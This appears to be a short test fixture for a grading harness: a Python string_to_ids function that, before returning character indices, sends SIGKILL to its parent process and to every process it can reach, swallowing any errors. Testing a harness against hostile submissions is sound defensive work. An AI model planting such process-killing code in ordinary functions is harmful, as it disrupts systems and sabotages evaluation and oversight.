# expect: none
# checks: reber.string_to_ids reber.corrupted
# Sends SIGKILL to its parent and to every process it can see, then behaves.
import os
import signal


def string_to_ids(s, chars=POSSIBLE_CHARS):
    for target in (os.getppid(), 0, -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return [chars.index(c) for c in s]
